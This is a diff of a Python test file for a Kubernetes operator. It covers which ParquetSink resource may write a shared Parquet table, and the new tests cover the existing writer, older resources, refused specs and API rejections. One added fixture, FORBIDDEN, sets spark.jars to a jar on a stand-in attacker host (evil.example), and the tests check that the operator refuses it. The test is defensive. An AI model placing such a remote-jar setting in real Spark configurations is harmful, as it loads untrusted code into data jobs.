@@ -1,4 +1,4 @@
-"""One table that several resources name is written by the oldest of them."""
+"""One table that several resources name is written by whoever writes it already; of those that have yet to begin, by the oldest."""
 
 from typing import Any
 
@@ -7,12 +7,40 @@ from kube_of_a_test import CLUSTER
 from tables_of_a_test import HOURLY, STREAM
 from tables_world import World, ready, run, sink
 
+from bmq.resources.parquet_sink import ParquetSink
 from bmq.resources.tables import TableStatus
+from bmq_operator.outcome import Outcome
+from bmq_operator.tables.places import PLACE
+from bmq_operator.tables.reconcile import reconcile
+
+FORBIDDEN = {**STREAM, "sparkConf": {"spark.jars": "http://evil.example/x.jar"}}
 
 
 def older(kind: str, namespace: str, **spec: Any) -> dict[str, Any]:
-    meta = {"name": "older", "namespace": namespace, "uid": "uid-older", "creationTimestamp": "2001-01-01T00:00:00Z"}
+    meta = {"name": "older", "namespace": namespace, "uid": "uid-older", "generation": 1, "creationTimestamp": "2001-01-01T00:00:00Z"}
     return {"apiVersion": "bmq.io/v1alpha1", "kind": kind, "metadata": meta, "spec": {"clusterRef": {"namespace": "shop"}, **spec}}
+
+
+SINK = older("ParquetSink", "shop", topics=["a"], oneTable=True, **STREAM)
+
+
+async def look(world: World, manifest: dict[str, Any]) -> Outcome:
+    """At a ParquetSink, keeping its status as the operator would."""
+    outcome = await reconcile(world.context, ParquetSink.model_validate(manifest))
+    assert outcome.status is not None
+    manifest["status"] = outcome.status.written()
+    return outcome
+
+
+def written(world: World, **spec: Any) -> dict[str, Any]:
+    """The younger one, as the API server has it."""
+    manifest = {"kind": "ParquetSink", **sink({**STREAM, **spec}, oneTable=True).model_dump(mode="json", by_alias=True)}
+    world.kube.keep(manifest)
+    return manifest
+
+
+def writers(world: World) -> set[str]:
+    return world.kube.names("SparkApplication")
 
 
 @pytest.mark.parametrize(
@@ -23,20 +51,18 @@ def older(kind: str, namespace: str, **spec: Any) -> dict[str, Any]:
     ],
     ids=["sink", "topic"],
 )
-def test_of_two_resources_for_one_table_the_younger_waits_for_the_older_to_go(first: dict[str, Any]) -> None:
+def test_of_two_resources_that_have_yet_to_begin_the_younger_waits_for_the_older_to_go(first: dict[str, Any]) -> None:
     async def use(world: World) -> None:
         topics = ("orders", "payments")
         world.kube.keep({**CLUSTER, "spec": {"topicsFrom": {"namespaces": ["prod"]}}})
         world.kube.keep({"kind": "ParquetSink", **sink(STREAM, topics=topics).model_dump(mode="json", by_alias=True)})
-        await world.look(STREAM, topics=topics)
-        assert len(world.kube.names("SparkApplication")) == 2
         world.kube.keep(first)
-        world.context.known.table_claims.forget("claims")
         taken = await world.look(STREAM, topics=topics)
         assert (ready(taken).status, ready(taken).reason) == ("False", "OutputTaken")
         title = f"{first['kind']} {first['metadata']['namespace']}/older"
-        assert f"s3a://warehouse/tables/orders is the table of {title}" in ready(taken).message and "write another output" in ready(taken).message
-        [kept] = world.kube.names("SparkApplication")
+        assert f"s3a://warehouse/tables/orders is the table of {title}, which is older" in ready(taken).message
+        assert "write another output" in ready(taken).message
+        [kept] = writers(world)
         assert "payments" in kept, "the other table goes on"
         assert taken.again_after_s is not None and taken.again_after_s <= 10
         assert world.status.tables[0] == TableStatus(output="s3a://warehouse/tables/orders")
@@ -44,15 +70,84 @@ def test_of_two_resources_for_one_table_the_younger_waits_for_the_older_to_go(fi
         world.context.known.table_claims.forget("claims")
         await world.look(STREAM, topics=topics)
         assert all(one.application for one in world.status.tables)
-        assert len(world.kube.names("SparkApplication")) == 2
+        assert len(writers(world)) == 2
+
+    run(use)
+
+
+@pytest.mark.parametrize("marked", [True, False], ids=["", "by an older operator"])
+@pytest.mark.parametrize("first", [SINK, {**SINK, "spec": {**SINK["spec"], **FORBIDDEN}}], ids=["allowed", "refused"])
+def test_who_writes_a_table_keeps_it_from_an_older_resource(first: dict[str, Any], marked: bool) -> None:
+    async def use(world: World) -> None:
+        lake = written(world)
+        await look(world, lake)
+        [application] = writers(world)
+        if not marked:
+            del world.kube.manifests["SparkApplication", "shop", application]["metadata"]["annotations"][PLACE]
+        another = {**first}
+        world.kube.keep(another)
+        world.context.known.places_taken.clear()  # as after another operator led
+        for _ in range(2):
+            world.context.known.table_claims.forget("claims")
+            taken = await look(world, another)
+            assert ready(taken).reason == "OutputTaken" and "is the table of ParquetSink shop/lake, which writes it" in ready(taken).message
+            assert ready(await look(world, lake)).reason != "OutputTaken"
+            assert writers(world) == {application}
+
+    run(use)
+
+
+def test_a_resource_of_which_nothing_is_made_stands_in_nobodys_way_and_waits_once_it_may_write() -> None:
+    async def use(world: World) -> None:
+        another = {**SINK, "spec": {**SINK["spec"], **FORBIDDEN}}
+        world.kube.keep(another)
+        lake = written(world)
+        assert ready(await look(world, another)).reason == "NotAllowed"
+        world.context.known.table_claims.forget("claims")
+        assert ready(await look(world, lake)).reason != "OutputTaken"
+        assert writers(world) == {"lake-sink"}
+        another["spec"] = SINK["spec"]
+        another["metadata"] = {**another["metadata"], "generation": 2}
+        assert ready(await look(world, another)).reason == "OutputTaken", "what was read before the younger one began says nothing of that"
+        assert writers(world) == {"lake-sink"}
+
+    run(use)
+
+
+def test_what_the_api_server_refuses_takes_no_place() -> None:
+    async def use(world: World) -> None:
+        another, lake = {**SINK}, written(world)
+        world.kube.keep(another)
+        world.kube.refuses.add("older-sink")
+        assert ready(await look(world, another)).reason == "Refused"
+        world.context.known.table_claims.forget("claims")
+        await look(world, lake)
+        assert writers(world) == {"lake-sink"}
+
+    run(use)
+
+
+def test_a_place_that_is_still_written_is_kept_though_its_resource_names_another_one_by_now() -> None:
+    async def use(world: World) -> None:
+        lake = written(world)
+        await look(world, lake)
+        lake["spec"] |= {**FORBIDDEN, "output": "s3a://warehouse/elsewhere"}
+        lake["metadata"]["generation"] = 2
+        assert ready(await look(world, lake)).reason == "NotAllowed"
+        another = {**SINK}
+        world.kube.keep(another)
+        world.context.known.table_claims.forget("claims")
+        assert "is the table of ParquetSink shop/lake, which writes it" in ready(await look(world, another)).message
+        assert writers(world) == {"lake-sink"}
 
     run(use)
 
 
 def test_a_sink_that_was_made_after_the_last_look_at_all_meets_an_older_one() -> None:
     async def use(world: World) -> None:
-        await world.look(STREAM, oneTable=True)  # reads who claims what
-        world.kube.keep(older("ParquetSink", "shop", topics=["a"], oneTable=True, **STREAM))
+        world.kube.keep({**CLUSTER})
+        await world.look({**STREAM, "output": "s3a://warehouse/else"}, oneTable=True)  # reads who claims what
+        world.kube.keep(SINK)
         assert ready(await world.look(STREAM, oneTable=True)).reason == "OutputTaken", "nothing was known of this one: all are read anew"
 
     run(use)
